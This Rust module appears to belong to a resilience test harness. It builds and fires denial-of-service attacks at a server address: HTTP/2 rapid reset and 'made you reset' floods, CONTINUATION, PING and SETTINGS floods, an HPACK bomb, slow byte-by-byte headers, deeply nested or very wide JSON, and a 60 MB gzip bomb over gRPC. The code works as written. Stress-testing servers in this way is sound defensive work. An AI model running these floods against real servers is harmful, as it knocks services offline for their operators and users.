//! The attacks, and the thread that carries them out.

use std::io::Write as _;
use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread::JoinHandle;
use std::time::Duration;

use flate2::Compression;
use flate2::write::GzEncoder;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::{MissedTickBehavior, timeout};

use super::frames;
use crate::Outcome;

/// Attacks under way at a time; more would measure the attacker.
const UNDER_WAY_MAX: usize = 1_000;
/// How long an attacker listens to a server that does not hang up.
const PATIENCE: Duration = Duration::from_secs(1);

/// Something that is done to a server on a new connection each time.
#[derive(Clone)]
pub struct Attack {
    pub name: &'static str,
    /// What is said on the connection, at once.
    bytes: Arc<Vec<u8>>,
    /// A byte of it is said so often instead.
    pause: Option<Duration>,
    per_s: u32,
}

fn attack(name: &'static str, per_s: u32, bytes: Vec<u8>) -> Attack {
    Attack {
        name,
        bytes: Arc::new(bytes),
        pause: None,
        per_s,
    }
}

fn http2(name: &'static str, per_s: u32, frames: &[u8]) -> Attack {
    attack(name, per_s, [frames::hello(), frames.to_vec()].concat())
}

/// All of them, each at a rate that one attacker on one core has.
pub fn all() -> Vec<Attack> {
    let bombs: Vec<u8> = frames::streams(20)
        .flat_map(|stream| frames::hpack_bomb(stream, 10_000))
        .collect();
    let slow = Attack {
        pause: Some(Duration::from_millis(100)),
        ..attack(
            "500 heads byte by byte",
            500,
            b"GET / HTTP/1.1\r\nhost: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa".to_vec(),
        )
    };
    vec![
        http2("rapid reset, 1,000 requests", 100, &frames::rapid_reset(1_000)),
        http2(
            "made you reset, 1,000 requests",
            100,
            &frames::made_you_reset(1_000),
        ),
        http2("CONTINUATION, 1,000 of 1 KB", 100, &frames::continuations(1_000)),
        http2("PING, 100,000", 100, &frames::pings(100_000)),
        http2("SETTINGS, 100,000", 100, &frames::settings(100_000)),
        http2("empty DATA, 100,000", 100, &frames::empty_data(100_000)),
        http2("HPACK bomb, 20 of 39 MB", 100, &bombs),
        slow,
        attack("connections that say nothing", 500, Vec::new()),
        attack("bytes that are no HTTP", 500, vec![1; 64]),
        attack(
            "JSON 100,000 deep",
            10,
            json(&format!("{}1", "[".repeat(100_000))),
        ),
        attack("4 MB of JSON with 1,000,000 nodes", 10, json(&wide())),
        http2("gzip bomb of 60 MB by gRPC", 10, &bomb()),
    ]
}

fn json(body: &str) -> Vec<u8> {
    let head = format!(
        "POST /message:send HTTP/1.1\r\nhost: a\r\na2a-version: 1.0\r\ncontent-type: application/json\r\n\
         connection: close\r\ncontent-length: {}\r\n\r\n",
        body.len()
    );
    (head + body).into_bytes()
}

fn wide() -> String {
    let nodes = "1,".repeat(1_000_000);
    format!("{{\"message\":{{\"metadata\":{{\"a\":[{nodes}1]}}}}}}")
}

fn bomb() -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    let packed = encoder
        .write_all(&vec![b' '; 60 << 20])
        .and_then(|()| encoder.finish())
        .expect("memory takes everything");
    let mut body = vec![1];
    body.extend_from_slice(&(packed.len() as u32).to_be_bytes());
    body.extend_from_slice(&packed);
    let head = [
        frames::grpc("SendMessage"),
        frames::header("grpc-encoding", "gzip"),
    ]
    .concat();
    let mut all = frames::frame(frames::HEADERS, frames::END_HEADERS, 1, &head);
    // All of it fits into the window of a stream, which nobody opens further here.
    for piece in body.chunks(16_000) {
        all.extend(frames::frame(frames::DATA, 0, 1, piece));
    }
    all.extend(frames::frame(frames::DATA, frames::END_STREAM, 1, &[]));
    all
}

/// An attack that goes on until it is stopped.
pub struct Attacker {
    is_over: Arc<AtomicBool>,
    done: Arc<AtomicU64>,
    thread: JoinHandle<std::io::Result<()>>,
}

impl Attacker {
    pub fn start(address: SocketAddr, attack: &Attack) -> Self {
        let (is_over, done) = (Arc::new(AtomicBool::new(false)), Arc::new(AtomicU64::new(0)));
        let (attack, over, count) = (attack.clone(), is_over.clone(), done.clone());
        let thread = std::thread::spawn(move || {
            let runtime = tokio::runtime::Builder::new_current_thread()
                .enable_all()
                .build()?;
            runtime.block_on(go_on(address, &attack, &over, &count));
            Ok(())
        });
        Self {
            is_over,
            done,
            thread,
        }
    }

    /// Ends the attack; how many there were.
    pub fn stop(self) -> Outcome<u64> {
        self.is_over.store(true, Ordering::Relaxed);
        self.thread.join().map_err(|_| "the attacker panicked")??;
        Ok(self.done.load(Ordering::Relaxed))
    }
}

async fn go_on(address: SocketAddr, attack: &Attack, is_over: &AtomicBool, done: &Arc<AtomicU64>) {
    let mut under_way = JoinSet::new();
    let mut clock = tokio::time::interval(Duration::from_secs(1) / attack.per_s);
    clock.set_missed_tick_behavior(MissedTickBehavior::Skip);
    while !is_over.load(Ordering::Relaxed) {
        clock.tick().await;
        while under_way.try_join_next().is_some() {}
        if under_way.len() < UNDER_WAY_MAX {
            let (attack, done) = (attack.clone(), Arc::clone(done));
            under_way.spawn(async move {
                done.fetch_add(1, Ordering::Relaxed);
                // However it ends, for the attacker it is the same.
                let _ = once(address, &attack).await;
            });
        }
    }
}

async fn once(address: SocketAddr, attack: &Attack) -> std::io::Result<()> {
    let mut tcp = TcpStream::connect(address).await?;
    match attack.pause {
        None => {
            let written = timeout(PATIENCE, tcp.write_all(&attack.bytes)).await;
            written.map_err(std::io::Error::other)??;
        }
        Some(pause) => {
            for byte in attack.bytes.iter() {
                tcp.write_all(&[*byte]).await?;
                tokio::time::sleep(pause).await;
            }
        }
    }
    let mut heard = Vec::new();
    let end = timeout(PATIENCE, tcp.read_to_end(&mut heard)).await;
    end.map_err(std::io::Error::other)?.map(|_| ())
}
